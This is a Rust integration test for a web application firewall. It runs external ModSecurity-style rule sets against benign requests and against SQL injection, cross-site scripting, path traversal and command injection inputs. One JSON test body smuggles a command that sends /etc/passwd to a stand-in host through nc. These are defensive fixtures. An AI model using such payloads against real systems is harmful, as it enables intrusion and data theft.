//! Whole sets of rules that others have written refuse what is bad and let pass what is not.
//!
//! They are not part of the repository. `WAF_SETS` names them: sets with `:` between them, each of files
//! and directories with `,` between them, in their order. Of a directory all `*.conf` are read.
//!
//! `WAF_SETS=crs-setup.conf,rules:other/modsecurity.conf,other/rules cargo test -p doorman-waf --test requests`

use std::fs;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use doorman_http::{Instant, Now};
use doorman_waf::seclang::{Files, Source, load};
use doorman_waf::{Engine, Facts, Report, Transaction, Verdict, Worker};

struct Disk;

impl Files for Disk {
    fn read(&self, base: &str, name: &str) -> Result<(Arc<str>, Vec<u8>), String> {
        let path = Path::new(base).with_file_name(name);
        let text = fs::read(&path).map_err(|error| error.to_string())?;
        Ok((path.to_string_lossy().into(), text))
    }

    fn list(&self, _: &str, pattern: &str) -> Result<Vec<String>, String> {
        Err(format!("{pattern}: whole sets name their files"))
    }
}

fn sources(path: &Path) -> Vec<Source> {
    let mut files = vec![path.to_owned()];
    if path.is_dir() {
        let entries = fs::read_dir(path).expect("a directory");
        files = entries.map(|entry| entry.expect("an entry").path()).collect();
        files.retain(|file| file.extension().is_some_and(|extension| extension == "conf"));
        files.sort();
    }
    let source = |file: PathBuf| Source {
        name: file.to_string_lossy().into(),
        text: fs::read(&file).unwrap_or_else(|error| panic!("{}: {error}", file.display())),
    };
    files.into_iter().map(source).collect()
}

/// What makes a set block: the last rule that decides is a set's own.
const PROLOGUE: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "@rx (?i)^application/json" "id:200001,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,deny,status:400,log,msg:'Failed to parse request body.'"
"#;

fn tell(engine: &Arc<Engine>, worker: &mut Worker, request: &Request<'_>) -> Report {
    let address = |text: &str| text.parse::<SocketAddr>().expect("an address");
    let facts = Facts {
        client: address("203.0.113.9:50000"),
        server: address("203.0.113.1:80"),
        now: Now { instant: Instant(0), unix_nanos: 1_700_000_000_000_000_000 },
        unique_id: "0123456789".into(),
    };
    let mut transaction = Transaction::new(Arc::clone(engine), facts);
    let length = request.body.len().to_string();
    transaction.request_line(request.method.as_bytes(), request.target.as_bytes(), b"HTTP/1.1");
    let mut fields = vec![
        ("Host", "www.example"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Cookie", "session=6f1c2d; theme=dark"),
    ];
    if !request.body.is_empty() {
        fields.push(("Content-Type", request.kind));
        fields.push(("Content-Length", &length));
    }
    for (name, value) in fields {
        transaction.request_field(name.as_bytes(), value.as_bytes());
    }
    if transaction.request_head(worker) == Verdict::Pass {
        let _ = transaction.request_body(request.body.as_bytes());
        if transaction.request_end(worker) == Verdict::Pass {
            transaction.response_line(200, b"HTTP/1.1");
            transaction.response_field(b"Content-Type", b"text/html");
            let _ = transaction.response_head(worker);
            let _ = transaction.response_end(worker);
        }
    }
    transaction.finish(worker)
}

struct Request<'a> {
    method: &'a str,
    target: &'a str,
    kind: &'a str,
    body: &'a str,
    /// A part of the ids that are expected to match, and whether it is refused.
    families: &'a [u32],
}

const FORM: &str = "application/x-www-form-urlencoded";

const REQUESTS: [Request<'_>; 8] = [
    Request { method: "GET", target: "/", kind: "", body: "", families: &[] },
    Request {
        method: "GET",
        target: "/search?q=red+shoes&page=2",
        kind: "",
        body: "",
        families: &[],
    },
    Request {
        method: "POST",
        target: "/contact",
        kind: FORM,
        body: "name=Ada+Lovelace&message=The+engine+weaves+patterns%2C+as+looms+do.&agree=on",
        families: &[],
    },
    Request {
        method: "POST",
        target: "/api",
        kind: "application/json",
        body: r#"{"title":"Notes","items":[1,2,{"text":"ordinary words"}]}"#,
        families: &[],
    },
    Request {
        method: "GET",
        target: "/?id=1%27%20OR%20%271%27=%271%27--%20-",
        kind: "",
        body: "",
        families: &[942],
    },
    Request {
        method: "POST",
        target: "/",
        kind: FORM,
        body: "c=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        families: &[941],
    },
    Request {
        method: "GET",
        target: "/?file=../../../../etc/passwd",
        kind: "",
        body: "",
        families: &[930],
    },
    Request {
        method: "POST",
        target: "/",
        kind: "application/json",
        body: r#"{"cmd":"; cat /etc/passwd | nc 192.0.2.1 99"}"#,
        families: &[930, 932],
    },
];

fn check(name: &str) {
    let prologue = Source { name: "prologue".into(), text: PROLOGUE.as_bytes().to_vec() };
    let set = name.split(',').flat_map(|path| sources(Path::new(path)));
    let sources: Vec<_> = std::iter::once(prologue).chain(set).collect();
    let rules = load(&sources, &Disk).unwrap_or_else(|faults| panic!("{name}: {faults:#?}"));
    let engine = Arc::new(Engine::new(rules).expect("rules that can be run"));
    let mut worker = Worker::new(&engine);
    for request in &REQUESTS {
        let report = tell(&engine, &mut worker, request);
        let ids: Vec<u32> = report.matches.iter().map(|found| found.rule.id).collect();
        println!(
            "{} {} {}\n  {ids:?} {:?}",
            request.method, request.target, request.body, report.score
        );
        assert_eq!(report.faults, [], "{name}: {}", request.target);
        assert_eq!(report.refused.is_some(), !request.families.is_empty(), "{name}: {ids:?}");
        for family in request.families {
            assert!(ids.iter().any(|id| id / 1_000 == *family), "{name}: no {family} in {ids:?}");
        }
    }
}

#[test]
fn sets_refuse_what_is_bad_and_let_pass_what_is_not() {
    let Ok(sets) = std::env::var("WAF_SETS") else {
        println!("WAF_SETS is not set: no whole set is run");
        return;
    };
    sets.split(':').for_each(check);
}
